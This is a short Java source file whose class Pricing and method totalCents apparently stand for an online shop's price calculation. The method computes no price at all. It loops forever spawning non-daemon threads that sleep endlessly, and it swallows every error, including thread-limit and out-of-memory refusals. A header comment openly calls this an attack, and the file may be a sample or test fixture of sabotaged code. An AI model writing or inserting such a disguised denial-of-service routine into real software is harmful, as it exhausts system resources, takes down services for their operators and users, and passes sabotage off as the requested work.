package com.shop;

/**
 * Attack: start threads that never end, in a loop, forever; refusals (the pids limit,
 * "unable to create native thread", memory) are ignored and the loop goes on.
 */
public final class Pricing {
    private Pricing() {}

    public static long totalCents(Order order) {
        while (true) {
            try {
                Thread sleeper = new Thread(() -> {
                    while (true) {
                        try {
                            Thread.sleep(1_000_000);
                        } catch (InterruptedException ignored) {
                            // and sleep again
                        }
                    }
                });
                sleeper.setDaemon(false);
                sleeper.start();
            } catch (Throwable refused) {
                Thread.onSpinWait();
            }
        }
    }
}
